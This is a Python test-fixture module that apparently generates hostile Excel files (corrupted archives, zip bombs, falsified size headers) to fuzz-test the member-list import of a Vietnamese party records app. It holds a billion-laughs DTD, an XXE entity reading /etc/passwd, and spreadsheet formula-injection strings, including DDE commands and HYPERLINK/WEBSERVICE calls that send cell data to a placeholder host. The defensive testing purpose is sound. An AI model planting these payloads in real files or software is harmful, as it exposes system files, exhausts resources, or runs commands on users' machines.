"""Hostile .xlsx files for the import and consolidation tests: damaged zips, wrong types, zip bombs, XML
entities, formulas, absurd cell values. Each maker returns the file's bytes; strategies pick among them."""

from __future__ import annotations

import io
import struct
import zipfile
from datetime import datetime

from hypothesis import strategies as st

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEADER = ["STT", "Họ và tên", "Ngày sinh", "Ngày vào Đảng", "Số CCCD", "Điện thoại"]

BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    b'<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    b'<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
    b'<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
    b'<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
    b'<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'
)
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
ENTITY_KINDS = {"laughs": BILLION_LAUGHS, "xxe": XXE, "doctype": b"<!DOCTYPE worksheet>"}
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    '=WEBSERVICE("http://example.invalid")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1/0",
)


def member_list(rows: list[list[object]], *, as_text: bool = True) -> bytes:
    """A member list as a branch would keep it. *as_text*: strings starting with "=" stay text cells."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in rows:
        ws.append(row)
        if as_text:
            for cell in ws[ws.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def good_member_list() -> bytes:
    return member_list(
        [
            [1, "Nguyễn Văn An", "05/02/1975", "03/04/2000", "", ""],
            [2, "Trần Thị Ánh", "01/01/1980", "01/01/2010", "", ""],
        ]
    )


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_entities(data: bytes, part: str, kind: str, padding: int) -> bytes:
    """Declare entities in *part*, after *padding* bytes of comment (past any prolog-only scan)."""
    members = parts(data)
    name = next((n for n in members if n.endswith(part)), next(iter(members)))
    xml = members[name]
    declaration_end = xml.find(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    comment = b"<!--" + b"x" * padding + b"-->" if padding else b""
    body = xml[declaration_end:]
    if kind != "doctype":  # use the entity so that expanding it would matter
        body = body.replace(b"<sheetData>", b"<sheetData><!-- &xxe; -->", 1)
        body = body.replace(b"Nguy", b"&lol9;Nguy" if kind == "laughs" else b"&xxe;Nguy", 1)
    members[name] = xml[:declaration_end] + comment + ENTITY_KINDS[kind] + body
    return rezip(members)


def zip_bomb(data: bytes, unpacked: int = 60 * 1024 * 1024) -> bytes:
    """A valid workbook whose first sheet unpacks to *unpacked* bytes of whitespace (a few hundred KB packed)."""
    members = parts(data)
    name = next(n for n in members if n.startswith("xl/worksheets/"))
    xml = members[name]
    cut = xml.rfind(b"</worksheet>")
    members[name] = xml[:cut] + b" " * unpacked + xml[cut:]
    return rezip(members)


def lying_sizes(data: bytes) -> bytes:
    """The central directory claims every member unpacks to 10 bytes (a bomb hiding its size)."""
    blob = bytearray(data)
    offset = 0
    while (offset := blob.find(b"PK\x01\x02", offset)) != -1:
        struct.pack_into("<I", blob, offset + 24, 10)  # uncompressed size in the central directory
        offset += 4
    offset = 0
    while (offset := blob.find(b"PK\x03\x04", offset)) != -1:
        struct.pack_into("<I", blob, offset + 22, 10)  # ... and in each local header
        offset += 4
    return bytes(blob)


def docx_renamed() -> bytes:
    return rezip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        }
    )


# --------------------------------------------------------------------------- strategies
_ILLEGAL = {chr(c) for c in range(32) if chr(c) not in "\t\n\r"}
cell_text = st.text(st.characters(blacklist_characters=sorted(_ILLEGAL), blacklist_categories=("Cs",)), max_size=60)
absurd_cells = st.one_of(
    cell_text,
    st.sampled_from(FORMULAS),
    st.just("Ă" * 10_000),
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
    st.booleans(),
    st.none(),
)
absurd_rows = st.lists(st.lists(absurd_cells, min_size=6, max_size=6), min_size=1, max_size=4)


def damaged(base: bytes) -> st.SearchStrategy[bytes]:
    """Files made from a valid *base* by damaging it, or not an .xlsx at all."""
    size = len(base)
    return st.one_of(
        st.binary(max_size=3000),
        st.binary(max_size=3000).map(lambda b: b"PK\x03\x04" + b),
        st.binary(max_size=3000).map(lambda b: OLE2 + b),
        st.binary(max_size=500).map(lambda b: b"SQLite format 3\x00" + b),
        st.integers(min_value=0, max_value=size - 1).map(lambda n: base[:n]),
        st.lists(
            st.tuples(st.integers(min_value=0, max_value=size - 1), st.integers(min_value=1, max_value=255)),
            min_size=1,
            max_size=12,
        ).map(lambda flips: _flip(base, flips)),
        entity_injections(base),
        st.dictionaries(
            st.sampled_from(["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "_rels/.rels"]),
            st.binary(max_size=300),
            min_size=1,
        ).map(rezip),
        st.just(docx_renamed()),
        st.just(lying_sizes(base)),
    )


XML_PARTS = ("sheet1.xml", "workbook.xml", "styles.xml", "[Content_Types].xml", "app.xml", "core.xml", ".rels")


def entity_injections(base: bytes) -> st.SearchStrategy[bytes]:
    """DTDs and entities in any XML part, right after the declaration or behind a long comment."""
    return st.tuples(
        st.sampled_from(XML_PARTS), st.sampled_from(sorted(ENTITY_KINDS)), st.sampled_from([0, 5000, 70_000])
    ).map(lambda t: with_entities(base, *t))


def _flip(data: bytes, flips: list[tuple[int, int]]) -> bytes:
    blob = bytearray(data)
    for position, mask in flips:
        blob[position] ^= mask
    return bytes(blob)


def large_member_list(count: int) -> bytes:
    """A valid list of *count* distinct members (for the kill test of a large import)."""
    rows: list[list[object]] = []
    for i in range(count):
        born = f"{1 + i % 28:02d}/{1 + (i // 28) % 12:02d}/{1940 + i % 30}"
        rows.append([i + 1, f"Nguyễn Văn Thử {i:05d}", born, f"01/01/{1990 + i % 30}", "", ""])
    return member_list(rows, as_text=False)
